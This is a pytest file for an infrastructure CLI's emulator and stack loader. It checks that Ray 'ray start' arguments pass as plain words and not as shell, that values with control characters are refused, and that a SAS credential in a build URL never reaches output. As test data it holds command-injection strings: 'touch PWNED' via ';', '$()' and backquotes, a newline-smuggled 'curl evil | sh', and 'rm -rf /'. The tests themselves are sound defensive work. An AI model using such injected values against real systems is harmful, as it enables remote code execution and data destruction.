"""Hostile values on issue 41's new surface: a ray distribution's `ray start` arguments reach the emulator's shell as
words, never as shell; a remote build context, a Ray setting or an inference route with a control character is
refused where it is written; a credential in a remote context's URL is never repeated anywhere."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from infra_cli.emulator.launch import JobSpec, plan_launches
from infra_cli.stack.load import SchemaErrors, load_stack

ROOT = Path(__file__).resolve().parents[2]
HEADER = ("stack: hostile\nworkspace: {subscription_id: 00000000-0000-0000-0000-000000000000, resource_group: rg, "
          "name: mlw-hostile, location: eastus}\n")


def _ray_job(head_args: str, command: str = "echo ran > ran.txt") -> JobSpec:
    return JobSpec("job", command, 3, {"distributionType": "Ray", "port": 1234, "headNodeAdditionalArgs": head_args})


def test_ray_start_arguments_are_words_never_shell(tmp_path):
    """`head_node_additional_args` with `;`, `$(...)` and backquotes: a `ray` on PATH receives them as the words
    they are, nothing they spell runs, and the command runs once, on the first node."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    seen = tmp_path / "ray-args.txt"
    (bin_dir / "ray").write_text(f'#!/bin/sh\nfor a in "$@"; do printf "%s\\n" "$a"; done >> "{seen}"\n')
    (bin_dir / "ray").chmod(0o755)
    hostile = "--num-cpus 1 ; touch PWNED1 $(touch PWNED2) `touch PWNED3` 'quoted word'"
    [launch] = plan_launches(_ray_job(hostile), tmp_path / "work", tmp_path / "logs", master_port=41234)
    launch.cwd.mkdir(parents=True)
    env = {**os.environ, **launch.env, "PATH": f"{bin_dir}:{os.environ['PATH']}"}
    done = subprocess.run(launch.argv, cwd=launch.cwd, env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert not [p for p in tmp_path.rglob("PWNED*")], "a word of the arguments ran as shell"
    words = seen.read_text().splitlines()
    assert words[:4] == ["start", "--head", "--port=41234", "--include-dashboard=false"]
    assert ["--num-cpus", "1", ";", "touch", "PWNED1", "$(touch", "PWNED2)", "`touch", "PWNED3`", "quoted word"] == \
        words[5:15]
    assert words[-2:] == ["stop", "--force"]
    assert (launch.cwd / "ran.txt").read_text() == "ran\n"   # the command itself, once, on node 0


def test_an_unclosed_quote_in_ray_arguments_is_one_word(tmp_path):
    [launch] = plan_launches(_ray_job("--temp-dir '/tmp/x"), tmp_path / "work", tmp_path / "logs")
    assert launch.argv[-1] == "--temp-dir '/tmp/x"


def _loads(tmp_path: Path, body: str) -> None:
    path = tmp_path / "stack.yaml"
    path.write_text(HEADER + body, encoding="utf-8")
    load_stack(path)


@pytest.mark.parametrize("body, where", [
    ("environments:\n  e:\n    build: {path: \"https://x.io/ctx\\nRUN curl evil | sh\"}\n", "environments.e.build.path"),
    ("environments:\n  e:\n    image: x.io/y:1\n    inference_config:\n      liveness_route: {port: 1, path: \"/\\n\"}\n"
     "      readiness_route: {port: 1, path: /}\n      scoring_route: {port: 1, path: /}\n",
     "environments.e.inference_config.liveness_route.path"),
    ("environments:\n  e:\n    image: x.io/y:1\n    inference_config:\n      liveness_route: {port: 70000, path: /}\n"
     "      readiness_route: {port: 1, path: /}\n      scoring_route: {port: 1, path: /}\n",
     "environments.e.inference_config.liveness_route.port"),
    ("clusters: {gpus: {size: Standard_ND96asr_v4}}\nenvironments: {e: {image: x.io/y:1}}\ndistributions:\n"
     "  d: {cluster: gpus, environment: e, distribution: {type: ray, head_node_additional_args: \"--x\\nrm -rf /\"}}\n",
     "distributions.d.distribution.head_node_additional_args"),
    ("clusters: {gpus: {size: Standard_ND96asr_v4}}\nenvironments: {e: {image: x.io/y:1}}\ndistributions:\n"
     "  d: {cluster: gpus, environment: e, distribution: {type: ray, port: 0}}\n", "distributions.d.distribution.port"),
])
def test_a_control_character_or_an_impossible_value_is_refused_where_written(tmp_path, body, where):
    with pytest.raises(SchemaErrors) as exc:
        _loads(tmp_path, body)
    assert where in str(exc.value), str(exc.value)


def test_a_credential_in_a_remote_context_reaches_no_output(tmp_path):
    """validate, plan (refused before it reads anything) and render: the SAS signature appears in none of them."""
    (tmp_path / ".git").mkdir()
    path = tmp_path / "stack.yaml"
    path.write_text(HEADER + "environments:\n  e:\n    build:\n      path: https://a.blob.core.windows.net/c/ctx?"
                    "sp=r&sig=HOSTILE%2FSIG0123\n", encoding="utf-8")
    env = {k: v for k, v in os.environ.items() if not k.startswith("INFRA_")}
    env.update(PYTHONPATH=str(ROOT), INFRA_LOCAL_DIR=str(tmp_path / "local"))
    for args in (["validate", "--json"], ["plan", "--local", "--json"], ["render", "--out", str(tmp_path / "out")]):
        r = subprocess.run([sys.executable, "-m", "infra_cli", *args, str(path)], capture_output=True, text=True,
                           cwd=tmp_path, env=env, timeout=300)
        assert r.returncode == 1 and "Traceback" not in r.stderr, (args, r.stderr)
        assert "HOSTILE" not in r.stdout + r.stderr and "holds a credential" in r.stdout + r.stderr, args
    assert not (tmp_path / "out").exists() or not [p for p in (tmp_path / "out").rglob("*") if p.is_file()]
